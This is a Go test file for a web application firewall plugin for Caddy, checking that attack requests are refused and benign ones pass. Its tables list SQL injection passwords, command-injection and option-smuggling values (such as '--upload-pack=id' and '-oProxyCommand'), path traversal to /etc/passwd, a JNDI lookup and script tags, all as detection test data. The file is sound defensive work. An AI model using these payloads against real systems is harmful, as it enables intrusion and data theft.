	// passwords of quotes and operators that are not SQL
	for i, p := range []string{`Tr0ub4dor&3?>`, `O'Brien-'s~?`, `x7$K'q-z!'9`, `a'b'-c'd'>?`} {
		cred := "jane.o'neil@example.com:" + p
		enc := []*base64.Encoding{base64.RawStdEncoding, base64.URLEncoding, base64.RawURLEncoding, base64.StdEncoding}[i].EncodeToString([]byte(cred))
		out = append(out, probe{name: "Basic, leniently encoded, with a password " + p, method: "GET", path: "/account", header: h("Authorization", "Basic\t "+enc)})
		// and with stray characters, as Werkzeug reads it (F6's near misses)
		out = append(out, probe{name: "Basic with a stray '!', with a password " + p, method: "GET", path: "/account", header: h("Authorization", "Basic "+enc[:4]+"!"+enc[4:])})
	}
	// JSON in headers and path segments, base64 files, X-Original-URL's
	// parameters that are no attack (F15's and F17's near misses)
	note, noteType := multipartFile("f", `filename="key.txt"`, "text/plain", base64.StdEncoding.EncodeToString([]byte("It's 5 o'clock -- time for tea; see you at Jane's.")))
	out = append(out,
		probe{name: "JSON in a header", method: "GET", path: "/", header: h("X-Filter", `{"name":"O'Brien","tags":["a","b"],"note":"rock 'n' roll -- yes"}`)},
		probe{name: "JSON in a path segment", method: "GET", path: "/api/search/%7B%22name%22%3A%22O'Brien%22%2C%22page%22%3A2%7D"},
		probe{name: "a base64 text file of prose", method: "POST", path: "/upload", contentType: noteType, body: note},
		probe{name: "X-Original-URL with a base64 and a JSON parameter", method: "GET", path: "/", header: h("X-Original-Url",
			"/api/users?q="+base64.StdEncoding.EncodeToString([]byte("O'Brien & sons"))+"&filter=%7B%22name%22%3A%22Jane%20O'Neil%22%7D")},
	)
	// paths of several segments that are not plainly safe, read whole
	// (F9's near misses)
	for _, p := range []string{"/files/My%20Docs/Report%20(1).pdf", "/wiki/C%2B%2B/Templates%20(advanced)", "/shop/Men's/T-Shirts%20&%20Tops",
		"/docs/v1.2/Q&A/it's%20fine", "/api/search/rock%20'n'%20roll/page%202"} {
		out = append(out, probe{name: "a path of several unsafe segments " + p, method: "GET", path: p})
	}
	return out
}

// TestPlacesBeyondTheCRS runs the places' attack and benign tables through
// a real Caddy with waf (paranoia 1) and with waf { crs_only }, as
// TestDetectionBeyondTheCRS does: each attack in crsMisses passes the CRS
// alone and is refused with the additions, and no benign request is
// refused by either.
func TestPlacesBeyondTheCRS(t *testing.T) {
	tableOnly(t)
	crsCatches, crsMisses := placesAttackTable()
	runBeyondTheCRS(t, crsCatches, crsMisses, placesBenignTable())
}

// runBeyondTheCRS runs attack and benign tables through a real Caddy with
// waf { crs_only } and with waf: crsCatches must be refused by both,
// crsMisses by the additions only, and no benign request by either.
func runBeyondTheCRS(t *testing.T, crsCatches, crsMisses, benign []probe) {
	t.Helper()
	run := func(block string) (map[string]bool, int) {
		base, _ := startCaddy(t, block)
		refused := map[string]bool{}
		for _, p := range append(append([]probe{}, crsCatches...), crsMisses...) {
			code, _ := send(t, base, p)
			if testing.Verbose() {
				t.Logf("%s: %s: %d", strings.ReplaceAll(block, "\n", " "), p.name, code)
			}
			if code == http.StatusForbidden || code == http.StatusBadRequest || code == http.StatusMethodNotAllowed {
				refused[p.name] = true
			}
		}
		fp := 0
		for _, p := range benign {
			if code, body := send(t, base, p); code != http.StatusOK {
				t.Errorf("%s: %s: %d %s, want 200 (a false positive)", block, p.name, code, body)
				fp++
			}
		}
		return refused, fp
	}
	before, fpBefore := run("waf {\n\t\tcrs_only\n\t}")
	_ = caddy.Stop()
	after, fpAfter := run("waf")
	t.Logf("attacks refused: CRS alone %d of %d, with the additions %d of %d; benign refused: %d and %d of %d",
		len(before), len(crsCatches)+len(crsMisses), len(after), len(crsCatches)+len(crsMisses), fpBefore, fpAfter, len(benign))
	for _, p := range crsCatches {
		if !before[p.name] || !after[p.name] {
			t.Errorf("%s: refused by the CRS alone %v, with the additions %v; want both", p.name, before[p.name], after[p.name])
		}
	}
	for _, p := range crsMisses {
		if before[p.name] {
			t.Errorf("%s: the CRS alone refuses it (move it to crsCatches)", p.name)
		}
		if !after[p.name] {
			t.Errorf("%s: passed, want refused", p.name)
		}
	}
}

func TestSafeValue(t *testing.T) {
	for v, want := range map[string]bool{
		"00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01":                    true,
		"Root=1-5759e988-bd862e3fe1be46a994272793;Parent=53995c3f42cd8ad8;Sampled=1": true,
		"203.0.113.195, 70.41.3.18, 2001:db8::1":                                     true,
		"[2001:db8::1]:8443":                                                         true,
		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyLTcifQ.c2lnbmF0dXJl":                   true,
		"k2Hs+9/aQ==":              true,
		"jane.doe+x@example.com":   true,
		"Zürich":                   true,
		"":                         true,
		"1' OR '1'='1":             false,
		"1 OR 1=1":                 false, // a space not after a comma
		"1,OR 1=1":                 false,
		"x;id":                     false, // ; not before a parameter
		"x;id=":                    true,
		"repos;x=--upload-pack=id": false, // a matrix parameter's option (attack 11)
		"web1;o=-oProxyCommand=x":  false,
		"x;n=-5":                   true,
		"x;d=a-b":                  true,
		";=":                       false,
		"../../etc/passwd":         false,
		"1/**/OR/**/1=1":           false,
		"${jndi:ldap://x}":         false,
		"{{7*7}}":                  false,
		"<script>":                 false,
		"a%27b":                    false, // % outside a path
		"127.0.0.1|id":             false,
		"a\tb":                     false,
		"a\x00b":                   false,
		"`id`":                     false,
		"$(id)":                    false,
		"a&b":                      false,
		"a#b":                      false,
		"a\\b":                     false,
		"a!b":                      false,
		"a?b":                      false,
		"a*b":                      false,
		"1\xa0OR\xa01=1":           false, // 0xA0 alone: white space to some databases
		"1\u00a0OR\u00a01=1":       false, // a no-break space
		"1\u3000OR":                false, // an ideographic space
		"東京-Zürich-🎉":              true,
		// an option (a sixth fresh-eyes attack's B19)
		"--upload-pack=id":                   false,
		"-oProxyCommand=/tmp/x.sh":           false,
		"--checkpoint-action=exec=/tmp/x.sh": false,
		"-c/core.sshCommand=id":              false,
		"-5":                                 true,
		"-":                                  true,
		"x--y":                               true,
		"a-b-c":                              true,
	} {
		if got := safeValue(v, false); got != want {
			t.Errorf("safeValue(%q) = %v, want %v", v, got, want)
		}
	}
	for seg, want := range map[string]bool{
		"Z%C3%BCrich":                true, // UTF-8, percent-encoded
		"users;jsessionid=1A53":      true,
		"me:batchGet":                true,
		"l%27%C3%A9tranger":          false, // %27 is a quote
		"1%20OR%201=1":               false,
		"a%2Fb":                      false, // an encoded slash
		"a%252F":                     false, // encoded twice
		"a%2":                        false,
		"a%zz":                       false,
		"%2E%2E":                     false,
		"users%3Bid=1":               true,
		"users%3Bid%3D1%27%20OR%201": false,
		"1%A0OR%A01=1":               false, // 0xA0 alone
		"1%C2%A0OR%C2%A01=1":         false, // a no-break space
		"%E6%9D%B1%E4%BA%AC":         true,  // 東京
		"%F0%9F%8E%89":               true,  // 🎉
		"%C3":                        false, // cut short
		"%C3%28":                     false, // not a continuation byte
		"%FF":                        false,
		"%2D%2Dupload-pack=id":       false, // an option, encoded (B19)
		"%2doProxyCommand=id":        false,
		"-%2Dupload-pack=id":         false,
		"%2D5":                       true,
	} {
		if got := safeValue(seg, true); got != want {
			t.Errorf("safeValue(%q, escaped) = %v, want %v", seg, got, want)
		}
	}
}

func TestPlaceValues(t *testing.T) {
	r := httptest.NewRequest("GET", "/api/users;id=1%27%2F**%2FOR%2F**%2F1=1/Z%C3%BCrich/o'brien?q=1", nil)
	r.Host = "shop.example.com'--"
	r.Header = http.Header{
		"X-User-Id":       {"7", "1 UNION SELECT password FROM users"},
		"X-Request-Id":    {"f058ebd6-02f7-4d3f-942e-904344e8cde5"},
		"Accept":          {"*/*"},
		"Sec-Ch-Ua":       {`"Chromium";v="118"`},
		"Authorization":   {"Basic " + base64.StdEncoding.EncodeToString([]byte("jane o'neil:p@ss' OR '1'='1"))},
		"X-Forwarded-For": {"203.0.113.195, 70.41.3.18"},
	}
	out, password := placeValues(r)
	got := map[string]string{}
	for _, a := range out {
		got[a.name] += a.value
	}
	want := map[string]string{
		"path:2":           "users;id=1'/**/OR/**/1=1",
		"path:4":           "o'brien",
		"header:host":      "shop.example.com'--",
		"header:x-user-id": "1 UNION SELECT password FROM users",
		"basic:user":       "jane o'neil",
		// two segments or more not plainly safe: the whole path too (a
		// catch-all route reads it whole)
		"path:all": "/api/users;id=1'/**/OR/**/1=1/Zürich/o'brien",
	}
	if !maps.Equal(got, want) {
		t.Errorf("placeValues: %v, want %v", got, want)
	}
	if password != "p@ss' OR '1'='1" {
		t.Errorf("password %q", password)
	}
	// '+' in a path segment: also read as a space, when that is not
	// plainly safe; both forms when neither is (0+OR+1=1: its 1=1 is no
	// longer plainly safe since attack 84)
	r = httptest.NewRequest("GET", "/a/0+OR+1=1/b/x+y/c/1'+OR/%31+OR/d/a+b,c", nil)
	out, _ = placeValues(r)
	var segs []string
	for _, a := range out {
		segs = append(segs, a.name+"="+a.value)
	}
	if want := []string{"path:2=0+OR+1=1", "path:2=0 OR 1=1", "path:4=x y", "path:6=1'+OR", "path:6=1' OR", "path:7=1 OR", "path:9=a b,c", "path:all=/a/0+OR+1=1/b/x+y/c/1'+OR/1+OR/d/a+b,c"}; !slices.Equal(segs, want) {
		t.Errorf("'+' in path segments: %q, want %q", segs, want)
	}
	// X-Original-URL: a path and a query
	r = httptest.NewRequest("GET", "/", nil)
	r.Header = http.Header{"X-Original-Url": {"/a/1+OR+1=1/%27x?page=2&q=it%27s+ok&u=admin'%23&%3Cb%3E=1&next=%2Fhome"}}
	out, _ = placeValues(r)
	segs = nil
	for _, a := range out {
		segs = append(segs, a.name+"="+a.value)
	}
	if want := []string{"header:x-original-url=" + r.Header.Get("X-Original-Url"), "header:x-original-url:path:2=1+OR+1=1", "header:x-original-url:path:2=1 OR 1=1", "header:x-original-url:path:3='x", "header:x-original-url:query:page=2", "header:x-original-url:query:q=it's ok",
		"header:x-original-url:query:u=admin'#", "header:x-original-url:query:<b>=1", "header:x-original-url:query-name=<b>",
		"header:x-original-url:query:next=/home"}; !slices.Equal(segs, want) { // every value, as the request's own query's go to the decoders
		t.Errorf("X-Original-URL: %q, want %q", segs, want)
	}
	r = httptest.NewRequest("GET", "/", nil)
	r.Header = http.Header{"Authorization": {"Digest username=\"x' OR 1=1 --\", realm=\"r\""}, "Proxy-Authorization": {"Basic !!!"}}
	out, password = placeValues(r)
	if len(out) != 2 || password != "" {
		t.Errorf("Digest and Proxy-Authorization: %+v %q, want both as headers", out, password)
	}
}

// TestOrdinaryPlacesCostNothing: a request whose path, headers and
// credentials are all plainly safe (the bench's small GET, tracing and
// proxy headers, a bearer token, a Basic password of letters and digits)
// costs the scan of their bytes and not one allocation.
func TestOrdinaryPlacesCostNothing(t *testing.T) {
	r := httptest.NewRequest("GET", "/api/items/5f2b9c3e-8a1d/Z%C3%BCrich;v=2?page=2&sort=name", nil)
	r.Header = http.Header{
		"User-Agent":      {"Mozilla/5.0 (X11; Linux x86_64)"},
		"Accept":          {"application/json"},
		"Authorization":   {benchToken},
		"Traceparent":     {"00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"},
		"X-Amzn-Trace-Id": {"Root=1-5759e988-bd862e3fe1be46a994272793;Parent=53995c3f42cd8ad8;Sampled=1"},
		"X-Forwarded-For": {"203.0.113.195, 70.41.3.18"},
		"X-Request-Id":    {"f058ebd6-02f7-4d3f-942e-904344e8cde5"},
	}
	basicReq := r.Clone(context.Background())
	basicReq.Header.Set("Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte("jane:Tr0ub4dor3")))
	for name, req := range map[string]*http.Request{"bearer": r, "basic": basicReq} {
		if out, pw := placeValues(req); len(out) != 0 || pw != "" {
			t.Fatalf("%s: %+v %q: want nothing to inspect", name, out, pw)
		}
		if name == "basic" {
			continue // decoding the credentials allocates, as BasicAuth does
		}
		if n := fewestAllocs(func() { _, _ = placeArguments(nil, req, 128, 1<<14) }); n != 0 {
			t.Errorf("%s: %v allocations, want none", name, n)
		}
	}
}

// TestBasicPasswordRule: rule 210140 refuses a Basic password that breaks
// out of an SQL string literal, and lets random passwords through: the
// rule's two conditions (libinjection and basicPasswordSQL) on 200,000
// random passwords of each kind, and a sample of them through the handler.
func TestBasicPasswordRule(t *testing.T) {
	tableOnly(t)
	ctx, cancel := caddy.NewContext(caddy.Context{Context: context.Background()})
	defer cancel()
	w := &WAF{}
	if err := w.Provision(ctx); err != nil {
		t.Fatal(err)
	}
	defer func() { _ = w.Cleanup() }() // the pool's engine count is tested
	w.logger = zap.NewNop()
	next := caddyhttp.HandlerFunc(func(http.ResponseWriter, *http.Request) error { return nil })
	code := func(user, pass string) int {
		req := httptest.NewRequest("GET", "/account", nil)
		req.Header = basic(user, pass)
		rec := httptest.NewRecorder()
		_ = w.ServeHTTP(rec, req, next)
		return rec.Code
	}
	for _, a := range []string{"' OR '1'='1", "' OR 1=1 --", "' or ''='", "x' OR 'x'='x", "') OR ('1'='1",
		"' UNION SELECT username, password FROM users --", "'; DROP TABLE users; --", "' OR 1=1#", "1' or sleep(5)#",
		`" or ""="`, "' || '1'='1", "'or'1'='1", "'/**/or/**/1=1#", "x'or(1)=(1)#", "' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb'",
		"'-'", "'='", "'+'", "'^'", "' <> '", "x'-0-'y", "'*'",
		// comparison chains (a fifth fresh-eyes attack's F7)
		"'=0#", "'=0-- -", "'=''#", "'=''-- -", "' =0 #", "'=0/*", "'!=1#", "'<1#", "'>-1#",
		// arithmetic and <=> before a comment (a seventh fresh-eyes
		// attack, attack 11)
		"'=''-'", "'=''&'", "'=''-''-'", "'-0#", "x'-0#", "'+0#", "'|0 -- -", "'^0#", "'*1#", "'&0#", "' DIV 1#", "' div 1#", "' MOD 1#", "'<=>'#", "'<=>0#", "'||0#", "'-0/*",
		// calls of functions libinjection does not know (attack 54:
		// rules 210194 and 210195)
		"x' OR lengthUTF8(password)>5--", "1 OR sleepEachRow(3)", "x' AND notEmpty(password) AND 'a'='a", "1 AND hasToken(currentDatabase(),'prod')"} {
		if c := code("admin", a); c != http.StatusForbidden {
			t.Errorf("password %q: %d, want 403", a, c)
		}
	}
	rx, tail, logical := regexp.MustCompile(basicPasswordSQL), regexp.MustCompile("(?s)"+sqlInjectedTail), regexp.MustCompile(passwordLogical)
	rng := rand.New(rand.NewPCG(1, 2))
	for _, c := range []struct {
		kind, alphabet string
		most           int // refused of 200,000, at most
	}{
		{"every printable character", "!\"#$%&'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\\]^_`abcdefghijklmnopqrstuvwxyz{|}~", 5},
		{"a password manager's (letters, digits, !@#$%^&*)", "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!@#$%^&*", 0},
		{"words, spaces and apostrophes", "abcdefghijklmnopqrstuvwxyz     '-!.", 10},
	} {
		refused, handlerRefused := 0, 0
		for i := range randomSamples {
			b := make([]byte, 8+rng.IntN(25))
			for j := range b {
				b[j] = c.alphabet[rng.IntN(len(c.alphabet))]
			}
			p := string(b)
			if ok, _ := libinjection.IsSQLi(p); ok && rx.MatchString(p) || (sqlQuotedCall(p) && tail.MatchString(p) || sqlNumberCall(p)) && logical.MatchString(p) {
				refused++
			}
			if i < 500 && code("jane", p) != http.StatusOK {
				handlerRefused++
			}
		}
		t.Logf("%s: %d of %d refused", c.kind, refused, randomSamples)
		if refused > c.most || handlerRefused > 0 {
			t.Errorf("%s: %d of %d refused by 210140 (want at most %d), %d of 500 through the handler", c.kind, refused, randomSamples, c.most, handlerRefused)
		}
	}
}

// TestPlacesBounded: the places' values are inspected as arguments, so
// more of them than max_arguments (with the query's parameters), or more
// bytes than body_limit, are refused with 400 (never passed partly
// inspected), and the dearest request allowed (TestCPUBound's, with its
// query's parameters as header values to inspect) stays under the bound;
// that of before the cap on all places together (128 JSON fields, 128
// header values, 128 cookies) is refused.
func TestPlacesBounded(t *testing.T) {
	tableOnly(t)
	base, hits := startCaddy(t, "waf")
	margin := time.Duration(cpuMargin)
	do := func(r request, header http.Header) (int, time.Duration) {
		req, _ := http.NewRequest("POST", base+r.path, strings.NewReader(r.body))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("User-Agent", "Mozilla/5.0 gateway-test")
		if r.cookie != "" {
			req.Header.Set("Cookie", r.cookie)
		}
		for k, v := range header {
			req.Header[k] = v
		}
		return cpuOfRequest(t, req)
	}
	headers := func(n, size int, last string) http.Header {
		h := http.Header{}
		text := strings.Repeat("lorem ipsum (dolor) sit amet ", size/29+1)[:size]
		for i := range n {
			h.Set(fmt.Sprintf("X-Field-%03d", i), text)
		}
		if last != "" {
			h.Set("X-Last", last)
		}
		return h
	}
	worst := worstAllowed(defaultBodyLimit, defaultMaxArguments)
	worst.path = "/api/items"
	code, spent := do(worst, headers(defaultMaxArguments-1, 80, ""))
	t.Logf("the dearest request allowed, with %d header values to inspect and no query: %d, %v of CPU", defaultMaxArguments-1, code, spent)
	if code != http.StatusOK || *hits != 1 {
		t.Fatalf("the dearest request allowed with header values: %d, want 200", code)
	}
	if spent > margin*cpuBound {
		t.Errorf("it cost %v of CPU, over %d × the %v bound", spent, margin, cpuBound)
	}
	// as allowed before the cap on all places together: 128 JSON fields,
	// 128 header values, 128 cookies
	old := worstPerPlace(defaultBodyLimit, defaultMaxArguments)
	old.path = "/api/items"
	code, spent = do(old, headers(defaultMaxArguments, 80, ""))
	t.Logf("128 JSON fields, 128 header values, 128 cookies: %d, %v of CPU", code, spent)
	if code != http.StatusBadRequest || *hits != 1 {
		t.Errorf("128 JSON fields, 128 header values, 128 cookies: %d, want 400", code)
	}
	if spent > margin*refusedBound {
		t.Errorf("128 JSON fields, 128 header values, 128 cookies cost %v of CPU: inspected (want under %d × %v)", spent, margin, refusedBound)
	}
	attack := "1' UNION SELECT password FROM users --"
	for _, c := range []struct {
		name string
		r    request
		h    http.Header
	}{
		{"max_arguments header values then an attack", request{path: "/api/items", body: "{}"}, headers(defaultMaxArguments, 8, attack)},
		{"100 query parameters, 28 header values, then an attack", request{path: "/api/items?" + strings.Repeat("q=1&", 100), body: "{}"}, headers(28, 8, attack)},
		{"header values over body_limit then an attack", request{path: "/api/items", body: "{}"}, headers(40, 420, attack)},
	} {
		code, spent := do(c.r, c.h)
		t.Logf("%s: %d, %v of CPU", c.name, code, spent)
		if code != http.StatusBadRequest || *hits != 1 {
			t.Errorf("%s: %d, want 400", c.name, code)
		}
	}
}

// FuzzPlaceValues: any path, header value and Basic credentials give
// values no longer than what was sent, and no panic.
// headerProbe is a GET of /x with the header k: v (the attack tables'
// header rows).
func headerProbe(name, k, v string) probe {
	return probe{name: name, method: "GET", path: "/x", header: http.Header{k: {v}}}
}

func FuzzPlaceValues(f *testing.F) {
	f.Add("/a/b%2Fc;x=1/%zz/%C3%BC", "1' OR 1=1", "YTpi")
	f.Add("//", ";a=", "")
	f.Add("/a+b/0+OR+1=1", "/x/1+OR+1=1?q=admin'%23&%3C=1&a", "YWRtaW46Jy0n")
	f.Fuzz(func(t *testing.T, path, value, cred string) {
		r := &http.Request{URL: &url.URL{Path: path, RawPath: path}, Host: value, Header: http.Header{
			"X-A": {value}, "Authorization": {"Basic " + cred}, "X-Original-Url": {value},
		}}
		out, password := placeValues(r)
		total := len(password)
		for _, a := range out {
			total += len(a.value)
		}
		// a path segment with '+' twice (also with '+' as a space), and
		// the whole path once more (path:all); the value as Host, X-A
		// and X-Original-URL whole, and that URL's path twice or its
		// query once
		if total > 3*len(path)+5*len(value)+len(cred) {
			t.Fatalf("%d bytes of values from %q %q %q", total, path, value, cred)
		}
	})
}

// FuzzFileArguments: any multipart body gives file contents no longer
// than half as long again as the body (UTF-16 decoded), and no panic.
func FuzzFileArguments(f *testing.F) {
	body, ct := multipartFile("f", `filename*=UTF-8''a%20b.txt`, "text/plain", "1' OR 1=1 --")
	f.Add(ct, body)
	f.Add("multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=a; filename=b\r\n\r\nc\r\n--x--")
	f.Fuzz(func(t *testing.T, ct, body string) {
		total := 0
		files, fields := fileArguments(ct, []byte(body))
		for _, a := range append(files, fields...) {
			total += len(a.value)
		}
		if total > len(body)*3/2 { // UTF-16: 2 bytes of a character that takes 3 in UTF-8
			t.Fatalf("%d bytes of file contents from a %d-byte body", total, len(body))
		}
	})
}

// TestFilenameParams: a Content-Disposition's filename parameters by
// their names as the value holds them (Go's ParseMediaType reads
// filename*= into filename), a quoted value skipped whole.
func TestFilenameParams(t *testing.T) {
	for cd, want := range map[string][3]bool{
		`form-data; name="a"`:                                       {false, false, false},
		`form-data; name="a"; filename="x.txt"`:                     {true, false, false},
		`form-data; name="a"; filename*=UTF-8''x.txt`:               {false, true, false},
		`form-data; name="a"; FILENAME*=UTF-8''x.txt`:               {false, true, false},
		`form-data; name="a"; filename*0*=UTF-8''x; filename*1=y`:   {false, true, false},
		`form-data; name="a"; filename="x"; filename*=UTF-8''y`:     {true, true, false},
		`form-data; name="a"; filename=""`:                          {true, false, false},
		`form-data; name="x; filename=y"; filename*=UTF-8''z`:       {false, true, false},
		`form-data; name="x\"; filename=y"; filename*=UTF-8''z`:     {false, true, false},
		`form-data; name=a ; filename = x`:                          {false, false, true},
		`form-data; name="host"; filename =h.txt`:                   {false, false, true},
		`form-data; name="host"; filename= h.txt`:                   {false, false, true},
		"form-data; name=\"host\"; filename\t=h.txt":                {false, false, true},
		`form-data; name="host"; filename ="h.txt"`:                 {false, false, true},
		`form-data; name="host" ; filename="h.txt"`:                 {true, false, false},
		`form-data; name="host"; filename =x; filename="h.txt"`:     {true, false, true},
		`form-data; name="host"; filename ="x"; filename*=UTF-8''y`: {false, true, true},
		`form-data; name="a"; filename`:                             {false, false, false},
		`form-data; ;; name="a";`:                                   {false, false, false},
		`form-data`:                                                 {false, false, false},
	} {
		plain, star, spaced := filenameParams(cd)
		if plain != want[0] || star != want[1] || spaced != want[2] {
			t.Errorf("%s: plain %v, star %v, spaced %v; want %v", cd, plain, star, spaced, want)
		}
	}
}

// TestStarOnlyPartIsAField: a part named with filename*= only is handed
// to the rules as a field under its name (a sixth fresh-eyes attack's
// B8), not as a file's text; one with filename= too is a file.
func TestStarOnlyPartIsAField(t *testing.T) {
	body, ct := multipartFile("host", `filename*=UTF-8''a.txt`, "text/plain", "127.0.0.1; id")
	files, fields := fileArguments(ct, []byte(body))
	if len(files) != 0 || len(fields) != 1 || fields[0] != (argument{"host", "127.0.0.1; id"}) {
		t.Errorf("filename*= only: files %+v, fields %+v; want the field host", files, fields)
	}
	// white space around filename's '=': a field to Werkzeug (a seventh
	// fresh-eyes attack's BROKE 9)
	for _, d := range []string{"filename =h.txt", "filename= h.txt", "filename\t=h.txt", `filename ="h.txt"`} {
		body, ct := multipartFile("host", d, "text/plain", "127.0.0.1; id")
		files, fields := fileArguments(ct, []byte(body))
		if len(files) != 0 || len(fields) != 1 || fields[0] != (argument{"host", "127.0.0.1; id"}) {
			t.Errorf("%s: files %+v, fields %+v; want the field host", d, files, fields)
		}
	}
	body, ct = multipartFile("host", `filename="a.txt"; filename*=UTF-8''a.txt`, "text/plain", "127.0.0.1; id")
	files, fields = fileArguments(ct, []byte(body))
	if len(files) != 1 || files[0].name != "multipart.file.host"+suffixFileText || len(fields) != 0 {
		t.Errorf("filename= and filename*=: files %+v, fields %+v; want a file", files, fields)
	}
	body, ct = multipartFile("pic", `filename*=UTF-8''a.png`, "image/png", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\x00IEND\xaeB`\x82")
	if files, fields = fileArguments(ct, []byte(body)); len(files)+len(fields) != 0 {
		t.Errorf("a PNG named with filename*= only: files %+v, fields %+v; want nothing", files, fields)
	}
}

// TestBasicCredentialsLenient: Basic credentials are decoded as the most
// lenient backends decode them (no padding, the URL-safe alphabet, a tab
// or several spaces after the scheme), so what such a backend reads is
// what the rules read.
func TestBasicCredentialsLenient(t *testing.T) {
	cred := "jane>?:p' OR '1'='1?>"
	for _, v := range []string{
		"Basic " + base64.StdEncoding.EncodeToString([]byte(cred)),
		"Basic " + base64.RawStdEncoding.EncodeToString([]byte(cred)),
		"Basic " + base64.URLEncoding.EncodeToString([]byte(cred)),
		"basic\t" + base64.RawURLEncoding.EncodeToString([]byte(cred)),
		" Basic \t  " + base64.StdEncoding.EncodeToString([]byte(cred)) + " ",
	} {
		out, password := appendAuthorization(nil, []string{v})
		if len(out) != 1 || out[0].name != "basic:user" || out[0].value != "jane>?" || password != "p' OR '1'='1?>" {
			t.Errorf("%q: %+v %q, want basic:user jane>? and the password", v, out, password)
		}
	}
	if out, password := appendAuthorization(nil, []string{"Basic !!!notbase64"}); len(out) != 0 || password != "" {
		t.Errorf("undecodable: %+v %q, want nothing (the backend refuses it)", out, password)
	}
	// no colon: the whole value is the user name, as Werkzeug's
	// partition(":") reads it (a sixth fresh-eyes attack's B11)
	for _, u := range []string{"admin' or '1'='1' -- ", "jane>?", "<script>alert(1)</script>"} {
		for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.RawURLEncoding} {
			v := "Basic " + enc.EncodeToString([]byte(u))
			if out, password := appendAuthorization(nil, []string{v}); len(out) != 1 || out[0].name != "basic:user" || out[0].value != u || password != "" {
				t.Errorf("%q (%q without a colon): %+v %q, want basic:user %q", v, u, out, password, u)
			}
		}
	}
	// without a colon, bytes that are not UTF-8 are read as latin-1, as
	// Django REST framework falls back to (a seventh fresh-eyes attack's
	// BROKE 11)
	for b, want := range map[string]string{"admin' or '1'='1' -- \xff": "admin' or '1'='1' -- ÿ", "\xe9<script>": "é<script>"} {
		out, password := appendAuthorization(nil, []string{"Basic " + base64.StdEncoding.EncodeToString([]byte(b))})
		if len(out) != 1 || out[0].name != "basic:user" || out[0].value != want || password != "" {
			t.Errorf("%q without a colon: %+v %q, want basic:user %q", b, out, password, want)
		}
	}
	// without a colon, a plain name is safe, a latin-1 one and garbage
	// of letters too
	for _, b := range [][]byte{[]byte("jane"), []byte("j\xe9r\xf4me"), {0x9e, 0x8b, 0x6d, 0xff}} {
		if out, password := appendAuthorization(nil, []string{"Basic " + base64.StdEncoding.EncodeToString(b)}); len(out) != 0 || password != "" {
			t.Errorf("%q without a colon: %+v %q, want nothing", b, out, password)
		}
	}
}

// FuzzFilenameParams: any Content-Disposition value is read without a
// panic, and one without "filename" holds neither parameter.
func FuzzFilenameParams(f *testing.F) {
	f.Add(`form-data; name="a"; filename*=UTF-8''x.txt`)
	f.Add(`form-data; name="x\"; filename=y"; filename=z`)
	f.Add(`form-data; name="unterminated; filename=`)
	f.Fuzz(func(t *testing.T, cd string) {
		plain, star, spaced := filenameParams(cd)
		if (plain || star || spaced) && !strings.Contains(strings.ToLower(cd), "filename") {
			t.Fatalf("%q: plain %v, star %v, spaced %v without a filename parameter", cd, plain, star, spaced)
		}
	})
}

// TestContentTypeCharsets: rule 210174's transformation reads each
// charset parameter, named in any case, unquoted and lowercased.
func TestContentTypeCharsets(t *testing.T) {
	for in, want := range map[string]string{
		"application/json":                          "",
		"application/json; charset=utf-8":           "|utf-8|",
		"application/json; Charset=UTF-7":           "|utf-7|",
		`application/json;cHaRsEt="UTF-7"`:          "|utf-7|",
		"text/plain; CHARSET = 'utf-7' ; a=b":       "|utf-7|",
		"text/plain; charset=utf-8; Charset=utf-7":  "|utf-8| |utf-7|",
		`multipart/form-data; boundary="charset=x"`: "",
		"text/plain; xcharset=utf-7":                "",
	} {
		if got, _, _ := contentTypeCharsets(in); got != want {
			t.Errorf("contentTypeCharsets(%q) = %q, want %q", in, got, want)
		}
	}
}
